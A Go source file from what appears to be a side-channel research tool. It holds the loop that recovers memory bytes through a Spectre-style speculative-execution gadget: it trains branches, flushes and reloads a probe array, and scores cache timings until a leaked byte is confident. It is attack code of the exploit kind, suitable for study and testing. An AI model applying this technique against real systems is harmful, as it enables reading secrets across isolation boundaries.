// Package recovery drives rounds of flush, train, measure and score until one
// byte is recovered with confidence or the round budget runs out.
package recovery

import (
	"go.trai.ch/peek/internal/core/domain"
	"go.trai.ch/peek/internal/core/ports"
	"go.trai.ch/peek/internal/engine/cache"
	"go.trai.ch/peek/internal/engine/calibrate"
	"go.trai.ch/peek/internal/engine/gadget"
	"go.trai.ch/peek/internal/engine/oracle"
	"go.trai.ch/peek/internal/engine/probe"
	"go.trai.ch/peek/internal/engine/score"
	"go.trai.ch/zerr"
)

// Loop recovers bytes of one target. It owns the probe array for its whole
// lifetime and is not safe for concurrent use: the cache state it reads
// belongs to one core, so callers run it from a single pinned goroutine.
type Loop struct {
	cfg     domain.AttackConfig
	target  domain.Target
	machine string

	probe  *probe.Array
	oracle *oracle.Oracle
	gadget *gadget.Gadget
	scorer *score.Accumulator

	table     *domain.ScoreTable
	latencies domain.LatencyVector
}

// New allocates the probe array on machine and builds the victim over target.
func New(machine ports.Machine, target domain.Target, cfg domain.AttackConfig) (*Loop, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if err := target.Validate(); err != nil {
		return nil, err
	}

	arr, err := probe.New(cache.NewController(machine), cfg.Stride)
	if err != nil {
		return nil, err
	}

	return &Loop{
		cfg:     cfg,
		target:  target,
		machine: machine.Name(),
		probe:   arr,
		oracle:  oracle.New(machine),
		gadget:  gadget.New(machine.NewVictim(target, arr), cfg.TrialsPerRound, cfg.UnsafeEveryN),
		scorer:  score.New(),
		table:   domain.NewScoreTable(),
	}, nil
}

// Machine returns the name of the backend the loop runs on.
func (l *Loop) Machine() string {
	return l.machine
}

// RecoverByte leaks the byte at offset through the speculative gadget.
// Running out of rounds is not an error: the result is returned with
// Confident set to false.
func (l *Loop) RecoverByte(offset int) (domain.RecoveryResult, error) {
	if !l.target.Contains(offset) {
		return domain.RecoveryResult{}, zerr.With(zerr.With(domain.ErrOffsetOutOfRange, "offset", offset), "data_len", len(l.target.Data))
	}

	safe := l.target.SafeIndex(offset)
	train := func() { l.gadget.Train(safe, offset) }
	return l.run(offset, train, int(l.target.Data[safe])), nil
}

// ReloadByte recovers the byte at offset with a plain flush+reload: the
// class is touched architecturally, no speculation is involved. A machine
// that fails this cannot run RecoverByte either.
func (l *Loop) ReloadByte(offset int) (domain.RecoveryResult, error) {
	if !l.target.Contains(offset) {
		return domain.RecoveryResult{}, zerr.With(zerr.With(domain.ErrOffsetOutOfRange, "offset", offset), "data_len", len(l.target.Data))
	}

	class := int(l.target.Data[offset])
	touch := func() { l.probe.AccessClass(class, l.cfg.CalibrationRepeats) }
	return l.run(offset, touch, domain.NoExclusion), nil
}

// Profile measures hit and miss latencies on the loop's probe array.
func (l *Loop) Profile(samples int) calibrate.Profile {
	return calibrate.Measure(l.probe, l.oracle, samples)
}

// Close releases the probe array.
func (l *Loop) Close() error {
	return l.probe.Close()
}

func (l *Loop) run(offset int, stimulate func(), exclude int) domain.RecoveryResult {
	table := l.table
	table.Reset()

	var best, runnerUp, rounds int
	for rounds < l.cfg.MaxRounds {
		rounds++

		l.probe.FlushAll()
		stimulate()
		l.probe.Scan(l.oracle, &l.latencies)
		l.scorer.Score(table, &l.latencies, exclude)

		best, runnerUp = table.TopTwo()
		if domain.Confident(table.Score(best), table.Score(runnerUp), l.cfg.Margin) {
			return newResult(offset, table, best, runnerUp, rounds, true)
		}
	}
	return newResult(offset, table, best, runnerUp, rounds, false)
}

func newResult(offset int, table *domain.ScoreTable, best, runnerUp, rounds int, confident bool) domain.RecoveryResult {
	return domain.RecoveryResult{
		Offset:        offset,
		Byte:          byte(best),
		RunnerUp:      byte(runnerUp),
		BestScore:     table.Score(best),
		RunnerUpScore: table.Score(runnerUp),
		Rounds:        rounds,
		Confident:     confident,
	}
}
